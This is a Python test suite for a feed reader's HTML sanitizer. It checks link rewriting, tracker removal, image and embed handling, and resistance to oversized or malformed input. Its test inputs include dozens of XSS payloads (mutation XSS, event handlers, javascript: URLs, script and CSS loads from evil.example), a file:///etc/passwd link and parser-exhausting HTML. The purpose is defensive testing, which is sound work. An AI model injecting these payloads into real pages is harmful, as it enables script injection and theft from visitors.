"""What of publishers' HTML comes through: nothing that runs, everything that can be read."""
# ruff: noqa: E501 - an attack is written in one piece

import html as html_entities
import re
from concurrent.futures import ThreadPoolExecutor

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from wireroom.feeds import allowlist, sanitize

BASE = "https://site.example/blog/post"
LINK = 'rel="noopener noreferrer nofollow ugc" target="_blank"'
PLAYER = allowlist.IMPOSED["iframe"]
PIXEL = "data:image/gif;base64,R0lGODlhAQABAAAAACw="

KEPT = {
    "paragraphs": ("<p>a <b>b</b></p>", "<p>a <b>b</b></p>"),
    "unclosed": ("<p>a<p>b", "<p>a</p><p>b</p>"),
    "unknown_tags_leave_text": ("<font color=red>a</font><blink>b</blink>", "ab"),
    "form_leaves_text": ("<form><p>a</p></form>", "<p>a</p>"),
    "comment_goes": ("a<!-- b -->c", "ac"),
    "cdata_within": ("<![CDATA[<p>a</p>]]><![CDATA[b]]> c", "<p>a</p>b c"),
    "cdata_without_end": ("<p>a</p><![CDATA[<p>b", "<p>a</p><p>b</p>"),
    "language_and_direction": ('<p lang="he" dir="rtl">x</p>', '<p lang="he" dir="rtl">x</p>'),
    "table": (
        '<table><tbody><tr><td colspan="2" style="x">a</td></tr></tbody></table>',
        '<table><tbody><tr><td colspan="2">a</td></tr></tbody></table>',
    ),
    "code_language": (
        '<pre><code class="hl language-python">x</code></pre>',
        '<pre><code class="language-python">x</code></pre>',
    ),
    "no_names_for_scripts": ('<h2 id="x" name="y">a</h2>', "<h2>a</h2>"),
    "math": (
        '<math display="block"><mi>x</mi><annotation-xml><mi>y</mi></annotation-xml></math>',
        '<math display="block"><mi>x</mi></math>',
    ),
    "svg_goes": ("a<svg><title>t</title><path d=x></svg>b", "ab"),
    "details": ('<details open=""><summary>a</summary>b</details>',) * 2,
    "entities": ("a &amp; b &lt;c&gt; &copy;", "a &amp; b &lt;c&gt; ©"),
    "audio": (
        '<audio autoplay src="/a.mp3"></audio>',
        '<audio controls="" preload="none" src="https://site.example/a.mp3"></audio>',
    ),
}
LINKS = {
    "absolute": ("http://other.example/a", "http://other.example/a"),
    "relative": ("next", "https://site.example/blog/next"),
    "rooted": ("/x?a=1", "https://site.example/x?a=1"),
    "no_scheme": ("//other.example/a", "https://other.example/a"),
    "fragment": ("#fn1", "https://site.example/blog/post#fn1"),
    "mail": ("mailto:a@b.example", "mailto:a@b.example"),
    "telephone": ("tel:+431", "tel:+431"),
    "magnet": ("magnet:?xt=urn:btih:1", "magnet:?xt=urn:btih:1"),
    "blanks_around": ("  https://other.example/a\n", "https://other.example/a"),
    "campaign": (
        "https://other.example/a?utm_source=x&amp;b=1&amp;fbclid=2#c",
        "https://other.example/a?b=1#c",
    ),
}
REFUSED_LINKS = {
    "javascript": "javascript:alert(1)",
    "upper_case": "JAVASCRIPT:alert(1)",
    "blank_before": " &#14; javascript:alert(1)",
    "tab_inside": "java\tscript:alert(1)",
    "escaped_newline": "java&#x0A;script:alert(1)",
    "no_semicolons": "&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)",
    "vbscript": "vbscript:msgbox(1)",
    "data_html": "data:text/html;base64,PHNjcmlwdD4=",
    "data_image": PIXEL,
    "file": "file:///etc/passwd",
    "blob": "blob:https://site.example/1",
    "view_source": "view-source:https://site.example",
    "broken_host": "https://[junk/",
}
IMAGES = {
    "relative": (
        '<img src="a.png" alt="A">',
        '<img src="https://site.example/blog/a.png" alt="A">',
    ),
    "tiny": ('a<img src="/p.gif" width="1" height="1">', "a"),
    "zero": ('a<img src="/p.gif" height="0">', "a"),
    "counter_host": ('a<img src="https://feeds.feedburner.com/~r/x/~4/y">', "a"),
    "counter_subdomain": ('a<img src="https://ad.doubleclick.net/x.gif">', "a"),
    "feedburner_picture": ('<img src="https://feeds.feedburner.com/logo.png">',) * 2,
    "nothing_to_show": ('a<img alt="x">', "a"),
    "script_address": ('a<img src="javascript:alert(1)">', "a"),
    "data_png": (
        '<img src="data:image/png;base64,iVBORw0KGgo=">',
        '<img src="data:image/png;base64,iVBORw0KGgo=">',
    ),
    "data_svg": ('a<img src="data:image/svg+xml;base64,PHN2Zz4=">', "a"),
    "data_too_large": (f'a<img src="data:image/png;base64,{"A" * 100_001}">', "a"),
    "candidates": (
        '<img src="/a" srcset="/a.png 1x, javascript:alert(1) 2x, //cdn.example/b,w_3.png 640w, c.png">',
        (
            '<img src="https://site.example/a" srcset="https://site.example/a.png 1x,'
            ' https://cdn.example/b,w_3.png 640w, https://site.example/blog/c.png">'
        ),
    ),
    "candidates_all_bad": ('a<img srcset="javascript:alert(1) 1x">', "a"),
    "tiny_in_pixels": ('a<img src="/p.gif" width="1px" height="1px">', "a"),
    "size_in_pixels": (
        '<img src="/p.gif" width="90px">',
        '<img src="https://site.example/p.gif" width="90">',
    ),
    "link_around_counter": ('a<a href="/x"><img src="/p.gif" width=1></a>b', "ab"),
    "lazy": (
        f'<img src="{PIXEL}" data-src="/a.png">',
        '<img src="https://site.example/a.png">',
    ),
    "lazy_set": (
        '<img src="/a.png" data-srcset="/b.png 2x">',
        '<img src="https://site.example/a.png" srcset="https://site.example/b.png 2x">',
    ),
    "lazy_but_real": (
        '<img src="/small.png" data-src="/large.png">',
        '<img src="https://site.example/small.png">',
    ),
    "lazy_with_fallback": (
        f'<img src="{PIXEL}" class="lazy"><noscript><img src="/a.png" alt="A"></noscript>',
        '<img src="https://site.example/a.png" alt="A">',
    ),
    "fallback_alone": (
        '<p>x<noscript><img src="/a.png"></noscript></p>',
        '<p>x<img src="https://site.example/a.png"></p>',
    ),
    "fallback_without_image": ("<p>x<noscript>Turn on scripts</noscript></p>", "<p>x</p>"),
}
PLAYERS = {
    "youtube": (
        '<iframe width="560" src="https://www.youtube.com/embed/abc_DEF-123?start=5" allow="*">x</iframe>',
        (
            f'<iframe {PLAYER} src="https://www.youtube-nocookie.com/embed/abc_DEF-123?start=5"'
            ' width="560"></iframe>'
        ),
    ),
    "vimeo_without_scheme": (
        '<iframe src="//player.vimeo.com/video/1"></iframe>',
        f'<iframe {PLAYER} src="https://player.vimeo.com/video/1"></iframe>',
    ),
    "host_looks_allowed": (
        '<iframe src="https://player.vimeo.com.evil.example/video/1"></iframe>',
        f'<a {LINK} href="https://player.vimeo.com.evil.example/video/1">player.vimeo.com.evil.example</a>',
    ),
    "path_not_allowed": (
        '<iframe src="https://www.youtube.com/redirect?q=1"></iframe>',
        f'<a {LINK} href="https://www.youtube.com/redirect?q=1">www.youtube.com</a>',
    ),
    "other_host_is_a_link": (
        '<iframe src="https://maps.example/m" title="Map"></iframe>',
        f'<a {LINK} href="https://maps.example/m">Map</a>',
    ),
    "script_address": ('a<iframe src="javascript:alert(1)"></iframe>', "a"),
    "document_inside": ('a<iframe srcdoc="<script>alert(1)</script>"></iframe>', "a"),
    "old_flash": (
        '<object><param name="movie"><embed src="http://www.youtube.com/v/abcdefgh"></object>',
        f'<iframe {PLAYER} src="https://www.youtube-nocookie.com/embed/abcdefgh"></iframe>',
    ),
}

VECTORS = {
    "script": "<script>alert(1)</script>",
    "script_upper": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script_nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script_unclosed": "<script>alert(1)//",
    "event": '<img src="/x" onerror="alert(1)">',
    "event_slash": "<img/src=/x/onerror=alert(1)>",
    "event_backtick": "<img src=`x`onerror=alert(1)>",
    "body_onload": "<body onload=alert(1)>",
    "svg_onload": "<svg/onload=alert(1)>",
    "svg_script": "<svg><script>alert(1)</script></svg>",
    "svg_link": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "svg_style": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "svg_animate": '<svg><animate attributeName=href values="javascript:alert(1)"></svg>',
    "math_mglyph": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1"
    " onerror=alert(1)&gt;'>",
    "math_malignmark": "<math><mtext><malignmark><style><!--</style><img src=1 onerror=alert(1)>",
    "math_annotation": '<math><annotation-xml encoding="text/html"><style><img src=1 onerror=alert(1)>',
    "math_link": '<math href="javascript:alert(1)"><mi>x</mi></math>',
    "math_action": '<math><maction actiontype="statusline#javascript:alert(1)">x</maction></math>',
    "form_in_math": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "noscript_title": '<noscript><p title="</noscript><img src=1 onerror=alert(1)>">',
    "noembed": "<noembed><img title='</noembed><img src=1 onerror=alert(1)>'></noembed>",
    "textarea": '<textarea><img title="</textarea><img src=1 onerror=alert(1)>">',
    "title": '<title><a title="</title><img src=1 onerror=alert(1)>">',
    "xmp": '<xmp><p title="</xmp><img src=1 onerror=alert(1)>"></xmp>',
    "iframe_raw": '<iframe><p title="</iframe><img src=1 onerror=alert(1)>"></iframe>',
    "iframe_raw_allowed": '<iframe src="https://player.vimeo.com/video/1"><img src=1 onerror=alert(1)></iframe>',
    "iframe_in_math": '<math><iframe src="https://player.vimeo.com/video/1"><img src=1 onerror=alert(1)>',
    "template": "<template><script>alert(1)</script></template>",
    "comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "comment_trick": "<!--><img src=1 onerror=alert(1)>-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "style_attribute": '<div style="background:url(javascript:alert(1))">x</div>',
    "style_element": "<style>@import '//evil.example/x.css';</style>",
    "link_element": '<link rel="stylesheet" href="//evil.example/x.css">',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base": '<base href="javascript:alert(1)//">',
    "object": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="javascript:alert(1)">',
    "applet": '<applet code="x.class">x</applet>',
    "form_action": '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button>',
    "isindex": '<isindex type=image src=1 onerror="alert(1)">',
    "video_poster": '<video poster="javascript:alert(1)" onloadstart=alert(1)></video>',
    "source_event": '<video><source onerror="alert(1)"></video>',
    "table_background": '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "image_map": '<img src="/x" usemap="#m"><map name="m"><area href="javascript:alert(1)"></map>',
    "quote_cite": '<q cite="javascript:alert(1)">x</q>',
    "ping": '<a href="/x" ping="//evil.example">x</a>',
    "details_toggle": "<details open ontoggle=alert(1)>x</details>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "autofocus": "<select autofocus onfocus=alert(1)></select>",
    "contenteditable": "<p contenteditable onfocus=alert(1) tabindex=1>x</p>",
    "xss_locator": "'';!--\"<XSS>=&{()}",
    "null_byte": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "quote_break": '<a title="\'><script>alert(1)</script>" href="/x">x</a>',
    "plaintext": "<plaintext><script>alert(1)</script>",
    "nested_table_style": "<table><style><td><img title='</style><img src=1 onerror=alert(1)>'>",
    "option_style": "<select><option><style></option></select><b title='</style><img src onerror=alert(1)>'>",
}
_ADDRESSES = ("href", "src", "poster", "cite", "srcset")


def _unsafe_parts(cleaned: str) -> list[str]:
    """What a browser would find in `cleaned` that the allow-list does not know; read by another parser."""
    found = []
    imposed = {
        tag: set(re.findall(r"([a-z]+)=", attributes))
        for tag, attributes in allowlist.IMPOSED.items()
    }
    for scripting in (False, True):
        for node in LexborHTMLParser(cleaned, is_fragment=True, scripting=scripting).css("*"):
            tag = node.tag or ""
            allowed = (
                allowlist.ATTRIBUTES.get(tag, frozenset())
                | {"lang", "dir"}
                | imposed.get(tag, set())
            )
            if tag not in allowlist.TAGS:
                found.append(f"<{tag}>")
            for name, value in node.attributes.items():
                if name not in allowed:
                    found.append(f"{name} of <{tag}>")
                good = r"(?i)https?://|mailto:|tel:|magnet:|data:image/(png|jpe?g|gif|webp|avif);base64,"
                if name in _ADDRESSES and not re.match(good, value or ""):
                    found.append(f"{name}={value}")
    return found


@pytest.mark.parametrize(("raw", "expected"), KEPT.values(), ids=KEPT.keys())
def test_readable_html_stays(raw: str, expected: str) -> None:
    """Structure, text and harmless attributes stay; what is unknown leaves its text behind."""
    assert expected == sanitize.html(raw, base_url=BASE)


@pytest.mark.parametrize(("address", "expected"), LINKS.values(), ids=LINKS.keys())
def test_links_become_absolute_and_harmless(address: str, expected: str) -> None:
    """Links are absolute, lose campaign parameters, open apart and pass nothing on."""
    cleaned = sanitize.html(f'<a href="{address}" onclick="x()">t</a>', base_url=BASE)

    assert f'<a {LINK} href="{html_entities.escape(expected)}">t</a>' == cleaned


@pytest.mark.parametrize("address", REFUSED_LINKS.values(), ids=REFUSED_LINKS.keys())
def test_refused_addresses_leave_the_text(address: str) -> None:
    """An address of another scheme goes, however it is spelled, and the link's text stays."""
    assert "<a>t</a>" == sanitize.html(f'<a href="{address}">t</a>', base_url=BASE)


@pytest.mark.parametrize(("raw", "expected"), IMAGES.values(), ids=IMAGES.keys())
def test_images(raw: str, expected: str) -> None:
    """Pictures stay with absolute addresses, lazy ones are woken, counters are dropped."""
    assert expected == sanitize.html(raw, base_url=BASE)


@pytest.mark.parametrize(("raw", "expected"), PLAYERS.values(), ids=PLAYERS.keys())
def test_players(raw: str, expected: str) -> None:
    """Players of known hosts stay, in a sandbox; all others become links."""
    assert expected == sanitize.html(raw, base_url=BASE)


@pytest.mark.parametrize("vector", VECTORS.values(), ids=VECTORS.keys())
def test_attack_leaves_nothing_that_runs(vector: str) -> None:
    """Known attacks, alone and inside text, leave only what the allow-list knows."""
    for raw in (vector, f"<p>before {vector} after</p>", f"<table><tr><td>{vector}"):
        assert [] == _unsafe_parts(sanitize.html(raw, base_url=BASE)), raw


def test_checker_of_attacks_can_fail() -> None:
    """The checker itself sees a script, an event and an address when they are there."""
    found = _unsafe_parts('<script></script><img src="javascript:x" onerror="y">')

    assert {"<script>", "src=javascript:x", "onerror of <img>"} == set(found)


@pytest.mark.parametrize("plain", ["", "just text", "line\nline", "say \"hi\" 'now'", "a > b"])
def test_plain_text_stays_itself(plain: str) -> None:
    """Text without markup is not parsed, and a second look changes nothing."""
    once = sanitize.html(plain, base_url=BASE)

    assert html_entities.escape(plain, quote=False) == once
    assert once == sanitize.html(once, base_url=BASE)


def test_half_a_surrogate_pair_is_replaced() -> None:
    """A lone surrogate, which JSON can carry, does no harm."""
    assert "<b>a?b</b>" == sanitize.html("<b>a\ud800b</b>", base_url=BASE)


def test_no_base_drops_only_relative_addresses() -> None:
    """Without a base, relative links lose their address and absolute ones stay."""
    cleaned = sanitize.html('<a href="/x">a</a><a href="https://b.example/">b</a>', base_url="")

    assert f'<a>a</a><a {LINK} href="https://b.example/">b</a>' == cleaned


HOSTILE = {
    "deep": "<div>" * 100_000 + "the text",
    "deep_closed": "<div>" * 5_000 + "the text" + "</div>" * 5_000,
    "deep_by_stray_ends": "<span><div></span></div>" * 20_000 + "the text",
    "attributes": "<p " + " ".join(f"a{i}=1" for i in range(60_000)) + ">the text</p>",
    "attributes_behind_a_quote": '<p x"><b '
    + " ".join(f"a{i}" for i in range(60_000))
    + ">the text",
    "formatting": "".join(f"<b lang=x{i}>" for i in range(490)) + "<p>x</p>" * 40_000 + "the text",
    "large": "<p>the text</p>" * 60_000,
}


@pytest.mark.parametrize("raw", HOSTILE.values(), ids=HOSTILE.keys())
def test_html_that_chokes_parsers_becomes_its_text(raw: str) -> None:
    """Too deep, too wide or too large: paragraphs of text come out, quickly and the same again."""
    once = sanitize.html(raw, base_url=BASE)

    assert "the text" in once
    assert set(re.findall(r"</?[a-z0-9]+", once)) <= {"<p", "</p"}
    assert once == sanitize.html(once, base_url=BASE)


@pytest.mark.parametrize(
    "unit",
    [
        "<a/c=",
        '<a b="',
        "<a b='",
        "<!--",
        "<",
        "</",
        "<script>",
        "<![CDATA[",
        "<a x ",
        "&lt;",
        "<p><b>",
        "<table>",
    ],
)
def test_repeated_beginnings_take_linear_time(unit: str) -> None:
    """A fifth of a megabyte of any beginning is dealt with; a quadratic reading would hang here."""
    raw = unit * (200_000 // len(unit))

    assert isinstance(sanitize.html(raw, base_url=BASE), str)
    assert isinstance(sanitize.text(raw), str)


def test_long_harmless_articles_keep_their_markup() -> None:
    """An article of 100 KB with scripts, comments and odd quotes is no attack."""
    part = "<!-- a > b --><script>if (a < b) { x('<p>') }</script><p title='x > y'>text <b>bold</b></p>"
    cleaned = sanitize.html(part * 1_500, base_url=BASE)

    assert "<p>text <b>bold</b></p>" * 1_500 == cleaned


_TAGS = sorted(
    allowlist.TAGS | allowlist.DROPPED_WITH_CONTENT | {"form", "font", "marquee", "x-y"}
)
_soup = st.lists(
    st.sampled_from(_TAGS).flatmap(
        lambda tag: st.sampled_from(
            [f"<{tag}>", f"</{tag}>", f'<{tag} src="/a" href="b" title="<i>">']
        )
    )
    | st.sampled_from(
        ["text", " ", "\n", "&lt;", "<", "<!--", "-->", "]]>", "'", '"', "\xa0", "\r"]
    ),
    max_size=12,
).map("".join)


@settings(max_examples=300)
@given(_soup | st.text(max_size=80))
def test_any_soup_comes_out_safe_and_stable(raw: str) -> None:
    """Whatever goes in, only allowed parts come out, and cleaning again changes nothing."""
    once = sanitize.html(raw, base_url=BASE)

    assert [] == _unsafe_parts(once)
    assert once == sanitize.html(once, base_url=BASE)


DISORDERED = {
    "links": "<table><td><a href='/b'><table><tbody> <a href='/b'><span>",
    "headings": "<table><tr></h2><div><h2></a></td>x<h2>",
    "text beside rows": "<table>a<tr><td>b</td>c</tr></table>",
    "cell without row": "<table><td>a<table><td>b</table></table>",
    "tag that goes": "<table><form><tr><td>a</form></table>",
}


@pytest.mark.parametrize("raw", DISORDERED.values(), ids=DISORDERED)
def test_tables_out_of_order_settle(raw: str) -> None:
    """What a parser moved out of a table reads back as itself."""
    cleaned = sanitize.html(raw, base_url=BASE)

    assert cleaned == sanitize.html(cleaned, base_url=BASE)


def test_removals_are_named() -> None:
    """Each thing taken away is named once, with how often it was there."""
    raw = (
        '<p onclick="x" id="y">a</p><script>x</script><script>y</script><font>b</font>'
        '<a href="javascript:x">c</a><img src="/p" width="1"><iframe src="https://maps.example/">'
    )

    assert (
        "attribute onclick of <p>",
        "attribute id of <p>",
        "<script> with its content (2 times)",
        "<font>, its text stays",
        "address of <a>",
        "tracking image",
        "<iframe>, now a link",
    ) == sanitize.removed(raw)


def test_nothing_is_named_when_nothing_goes() -> None:
    """Harmless HTML and plain text have no removals, and unparsable HTML has one."""
    assert () == sanitize.removed('<p>a <a href="/b">c</a></p>')
    assert () == sanitize.removed("plain & simple")
    assert 1 == len(sanitize.removed("<div>" * 100_000))


def test_angles_in_attributes_are_escaped() -> None:
    """No value can pass for a tag, which all that reads sanitised HTML by patterns relies on."""
    raw = '<p lang="<a onclick=x>">a</p><img alt="1 > <img>" src="https://h.example/a.png">'
    cleaned = sanitize.html(raw, base_url="https://h.example/")

    assert '<p lang="&lt;a onclick=x&gt;">a</p>' == cleaned.partition("<img")[0]
    assert ' alt="1 &gt; &lt;img&gt;"' in cleaned


LINKS = {
    "settled": (
        'href="https://h.example/a?b=1&amp;c=2"',
        'href="https://h.example/a?b=1&amp;c=2"',
    ),
    "tracked": ('href="https://h.example/a?b=1&utm_id=2"', 'href="https://h.example/a?b=1"'),
    "tracked_first": ('href="https://h.example/?UTM_id=2&b=1"', 'href="https://h.example/?b=1"'),
    "titled": ('title="t" href="https://h.example/a"', 'title="t" href="https://h.example/a"'),
    "quoted": ('href="/a?b=&quot;"', 'href="https://h.example/a?b=%22"'),
    "fragment": ('href="https://h.example/a#b?c"', 'href="https://h.example/a#b?c"'),
}


@pytest.mark.parametrize(("written", "kept"), LINKS.values(), ids=LINKS.keys())
def test_links_are_resolved_and_rid_of_trackers(written: str, kept: str) -> None:
    """Links that may stay are told at a glance, and all others are read as what they are."""
    cleaned = sanitize.html(f"<a {written}>x</a>", base_url="https://h.example/")

    assert f'<a rel="noopener noreferrer nofollow ugc" target="_blank" {kept}>x</a>' == cleaned


def test_threads_do_not_share_a_base() -> None:
    """Calls at the same time, each with a base of its own, keep them apart."""
    bases = [f"https://s{number}.example/" for number in range(40)]
    with ThreadPoolExecutor(4) as pool:
        cleaned = list(
            pool.map(lambda base: sanitize.html('<img src="a.png">' * 50, base_url=base), bases)
        )

    assert [f'<img src="{base}a.png">' * 50 for base in bases] == cleaned


def test_a_tag_within_an_attribute_is_text() -> None:
    """What is imposed on links is put behind `<a `: no attribute may hold that in clear."""
    raw = '<img alt="<a onerror=1 " src="https://news.example/1.png" title=\'"<a onerror=1\'>'
    cleaned = sanitize.html(raw, base_url=BASE)

    assert 1 == cleaned.count("<")
    assert "nofollow" not in cleaned
